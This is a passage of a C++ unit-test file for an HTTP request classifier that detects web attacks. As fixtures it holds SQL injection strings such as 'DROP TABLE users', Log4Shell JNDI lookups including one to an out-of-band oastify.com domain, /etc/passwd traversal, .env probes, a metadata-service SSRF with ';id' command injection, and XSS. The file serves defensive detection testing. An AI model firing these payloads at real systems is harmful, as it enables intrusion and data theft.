                   R"v(id ASC; DROP TABLE users)v",
                   R"v(10 LIMIT 1 INTO @a)v",
                   R"v(1' LIMIT 1--)v",
                   R"v(1 AND CASE WHEN 1=1 THEN 1 ELSE 0 END=1)v",
                   R"v((CASE WHEN (SELECT 1)=1 THEN 1 ELSE 2 END))v",
                   R"v(1 AND DECODE(SUBSTR(USER,1,1),'S',1,0)=1)v",
                   R"v(1 AND $$a$$=$$a$$)v",
                   R"v(1'::int--)v",
                   R"v((SELECT password FROM users LIMIT 1))v",
                   R"v(1 AND !0)v",
                   R"v('-0-')v",
               });
  // A literal '+' in a path segment is a space the attacker's tool never encoded.
  expectAll(Category::kSqli, {{"/page/1'+OR+'x'='x"}, {"/item/1+AND+1=1"}});
}

TEST_F(ClassifierBenign, SqlContextLookalikesRaiseNothing) {
  const std::vector<Req> benign = {
      {"/api/tickets?filter=status%20eq%20%27open%27"},
      {"/api/tickets?filter=status+eq+%27open%27+and+priority+gt+2"},
      {"/api/tickets?filter=name+eq+%27O%27%27Brien%27"},
      {"/products?sort=name+asc"},
      {"/products?sort=updated_at+DESC,+id+ASC"},
      {"/search?q=size,+color%3D(select+one)"},
      {"/search?q=(select+all+that+apply)"},
      {"/search?q=(Select+one+from+the+list)"},
      {"/search?q=just+in+case+when+you+need+it"},
      {"/search?q=C%2B%2B+and+Java"},
      {"/search?q=18%2B+and+over"},
      {"/search?q=%24%24%24+deals"},
      {"/search?q=std%3A%3Avector%3Cint%3E"},
      {"/search?q=(1,2),(3,4)"},
      {"/search?q=Bob%27s,+name%3D%27x%27"},
      {"/search?q=how+to+use+SELECT+*+FROM+in+mysql"},
      {"/search?q=SELECT+COUNT(*)+FROM+orders+GROUP+BY+customer"},
      {"/search?q=select+*+from+users+where+id+%3D+1"},
      {"/search?q=1+or+2"},
      {"/search?q=true+or+false"},
      {"/search?q=page+1+of+10+--"},
      {"/forum/post?body=I+tried+%27%2Bstr(x)%2B%27+in+python"},
      {"/tag/Guns%20N%27%20Roses"},
      {"/search?q=Sh%C5%8Dgun+(select+edition)"},
  };
  for (const Req& r : benign) {
    const Detection d = classify(r);
    EXPECT_EQ(d.categories, 0) << "false positive: " << r.target << " -> " << describe(d);
  }
}

// ------------------------------------------------------------------ detection semantics

TEST_F(ClassifierSemantics, ScannerWithPayloadIsNotReconnaissance) {
  Detection d = classify({"/p?id=1%20union%20select%20null,null--", "sqlmap/1.7.2#stable"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kScanner));
  EXPECT_TRUE(hasCategory(d.categories, Category::kSqli));
  EXPECT_FALSE(d.reconnaissanceOnly);

  d = classify({"/.env", "Mozilla/5.0 zgrab/0.x"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kScanner));
  EXPECT_TRUE(hasCategory(d.categories, Category::kSensitiveFile));
  EXPECT_FALSE(d.reconnaissanceOnly);

  // An out-of-band domain inside a JNDI lookup is an exploitation attempt, not a probe.
  d = classify({"/", "${jndi:ldap://abc.oastify.com/a}"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kLog4shell));
  EXPECT_FALSE(d.reconnaissanceOnly);
}

TEST_F(ClassifierSemantics, NothingMatchedIsNotReconnaissance) {
  const Detection d = classify({"/index.html"});
  EXPECT_EQ(d.categories, 0);
  EXPECT_FALSE(d.reconnaissanceOnly);
}

TEST_F(ClassifierSemantics, SensitiveFileProbesAreNotReconnaissance) {
  // A successful fetch of .env or .git/config leaks secrets; the outcome decides whether it did.
  for (std::string_view t : {"/.env", "/.git/config", "/backup.zip", "/wp-config.php.bak"}) {
    const Detection d = classify({t});
    EXPECT_TRUE(hasCategory(d.categories, Category::kSensitiveFile)) << t;
    EXPECT_FALSE(d.reconnaissanceOnly) << t;
  }
}

TEST_F(ClassifierSemantics, RuleIdsPointAtRulesOfTheirCategory) {
  const auto rules = Classifier::rules();
  const std::vector<Req> sample = {
      {"/../../etc/passwd"},
      {"/vpn/../vpns/cfg/smb.conf"},
      {"/?x=${jndi:ldap://x/a}&y=<script>"},
      {"/fetch?url=http://169.254.169.254/&cmd=;id"},
  };
  for (const Req& r : sample) {
    const Detection d = classify(r);
    ASSERT_NE(d.categories, 0) << r.target;
    for (std::size_t c = 0; c < kCategoryCount; ++c) {
      const bool set = hasCategory(d.categories, static_cast<Category>(c));
      EXPECT_EQ(set, d.ruleIds[c] != 0) << r.target << " category " << c;
      if (!set) continue;
      const auto it = std::find_if(rules.begin(), rules.end(),
                                   [&](const RuleInfo& ri) { return ri.id == d.ruleIds[c]; });
      ASSERT_NE(it, rules.end()) << d.ruleIds[c];
    }
  }
}

TEST_F(ClassifierSemantics, ClimbingAboveRootIsItsOwnRule) {
  const Detection d = classify({"/../x"});
  EXPECT_TRUE(hasCategory(d.categories, Category::kPathTraversal)) << describe(d);
}

TEST_F(ClassifierSemantics, CvesAreDedupedAndBounded) {
  // Several rules name CVE-2019-19781 here; it is listed once.
  Detection d = classify({"/vpn/../vpns/portal/scripts/newbm.pl"});
  EXPECT_EQ(std::count(d.cves.begin(), d.cves.begin() + d.cveCount, "CVE-2019-19781"), 1);
  // Many CVEs in one request: at most kMaxDetectionCves are kept, all distinct.
  d =
      classify({"/vpn/../vpns/cfg/smb.conf?a=/remote/fgt_lang?lang=..&b=class.module.classloader"
                "&c=autodiscover.json?@x&d=\\think\\&e=bootstrapstatusprovider.applicationconfig."
                "setupcomplete&f=ajax/render/widget_php"});
  EXPECT_EQ(d.cveCount, kMaxDetectionCves);
  std::set<std::string_view> distinct(d.cves.begin(), d.cves.begin() + d.cveCount);
  EXPECT_EQ(distinct.size(), d.cveCount);
}

TEST_F(ClassifierSemantics, ReusedDetectionIsReset) {
  Detection d;
  HttpRequestLine line;
  line.method = "GET";
  line.target = "/?q=<script>alert(1)</script>";
  NormalizedRequest n;
  normalizeTarget(line.target, n);
  classifier_->classify(line, n, d);
  ASSERT_TRUE(hasCategory(d.categories, Category::kXss));
  line.target = "/index.html";
  normalizeTarget(line.target, n);
  classifier_->classify(line, n, d);
  EXPECT_EQ(d.categories, 0);
  EXPECT_EQ(d.ruleIds[static_cast<std::size_t>(Category::kXss)], 0u);
}

TEST_F(ClassifierSemantics, EmptyAndDashFieldsAreFine) {
  HttpRequestLine line;  // everything empty, as for a malformed log line
  NormalizedRequest n;
  normalizeTarget(line.target, n);
  Detection d;
  classifier_->classify(line, n, d);
  EXPECT_EQ(d.categories, 0);
  line.userAgent = "-";
  line.referer = "-";
  classifier_->classify(line, n, d);
  EXPECT_EQ(d.categories, 0);
}

}  // namespace
}  // namespace mamori::detect
